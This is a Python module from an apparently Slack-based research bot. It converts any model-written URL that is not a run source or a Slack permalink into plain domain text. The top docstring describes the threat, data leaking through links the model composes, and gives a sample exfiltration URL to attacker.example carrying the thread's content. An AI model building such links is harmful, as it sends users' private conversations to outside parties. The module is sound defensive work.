"""Where anything the bot shows of a run may link: the run's sources and Slack's own permalinks.

The model writes most of what a run shows (sections, the summary, section and chart titles, what it
is doing now, where sources disagree, its plan, why it ended), and a URL it writes is a request
waiting for a click: `https://attacker.example/?d=<the thread's content>`. So every surface shows a
URL as a link only when it is a source the run read or a search gave, or a Slack permalink; any
other is shown as its domain, in words. One policy, applied on every surface:

- the Markdown the model writes (sections, the summary) by the converters, which parse it: the
  report message (bot/slack/mrkdwn.py), the canvas and the report as a Markdown file
  (bot/slack/canvas_markdown.py);
- the plain texts the model writes, by `shown(state)` before any renderer reads them: the progress
  message and its plan, the native stream's cards and lines, the report's titles and footer, the
  canvas's headings, the file's headings, a section's history and a re-check's digest (with the
  revisions' reasons); the spilled report's index of first sentences by its own call (report_spill.py).

At the wire, every mrkdwn text object goes out `verbatim` (bot/slack/outgoing.py), so Slack links
nothing the renderers did not write as a link (a bare domain stays words).
"""

from __future__ import annotations

from collections.abc import Callable
from urllib.parse import urlsplit

from agent import AssembledReport
from bot.slack.canvas_markdown import to_file_markdown
from bot.slack.foreign_links import LinkPolicy, foreign_urls_as_domains
from jobs import RunState

__all__ = ["is_slack_permalink", "link_policy", "markdown_file_body", "shown"]


def _link_key(url: str) -> str:
    try:
        parts = urlsplit(url.strip())
        return f"{parts.scheme.lower()}://{(parts.netloc or '').lower()}{parts.path or '/'}?{parts.query}"
    except ValueError:
        return url.strip()


def is_slack_permalink(url: str) -> bool:
    try:
        parts = urlsplit(url)
    except ValueError:
        return False
    return parts.scheme == "https" and (parts.hostname or "").endswith(".slack.com")


def link_policy(state: RunState) -> LinkPolicy:
    """Where the report may link: the sources the run read or found (never a URL the model composed,
    which could carry the thread's content to whoever owns it), and Slack's own permalinks."""
    known = {_link_key(s.url) for s in state.sources.values()}

    def allowed(url: str) -> bool:
        return _link_key(url) in known or is_slack_permalink(url)

    return allowed


def shown(state: RunState) -> RunState:
    """`state` with every plain text the model wrote holding no URL the policy refuses (each becomes
    its domain). The Markdown of sections and the summary is left to the converters, which parse it."""
    allowed = link_policy(state)

    def clean(text: str) -> str:
        return foreign_urls_as_domains(text, allowed)

    update: dict[str, object] = {
        "activity": clean(state.activity),
        "checking": clean(state.checking),
        "reason": clean(state.reason),
        "notices": [clean(n) for n in state.notices],
        "sections": [
            s.model_copy(
                update={
                    "title": clean(s.title),
                    "revisions": [r.model_copy(update={"reason": clean(r.reason)}) for r in s.revisions],
                }
            )
            for s in state.sections
        ],
        "charts": [c.model_copy(update={"title": clean(c.title)}) for c in state.charts],
        "steps": [s.model_copy(update={"activity": clean(s.activity)}) for s in state.steps],
        "run": state.run.model_copy(update={"constraints": [clean(c) for c in state.run.constraints]}),
    }
    if state.plan is not None:
        plan = state.plan
        update["plan"] = plan.model_copy(
            update={
                "key_questions": [clean(q) for q in plan.key_questions],
                "outline": [clean(o) for o in plan.outline],
                "changes": [clean(c) for c in plan.changes],
            }
        )
    return state.model_copy(update=update)


def markdown_file_body(state: RunState, report: AssembledReport) -> Callable[[str], str]:
    """How a section's Markdown is written into the report's Markdown file: as the canvas writes it,
    links only to the run's sources and Slack permalinks, each `[n]` a link to `report`'s footnote n."""
    allowed = link_policy(state)
    urls = {note.number: note.source.url for note in report.footnotes}
    return lambda markdown: to_file_markdown(markdown, urls, allowed)
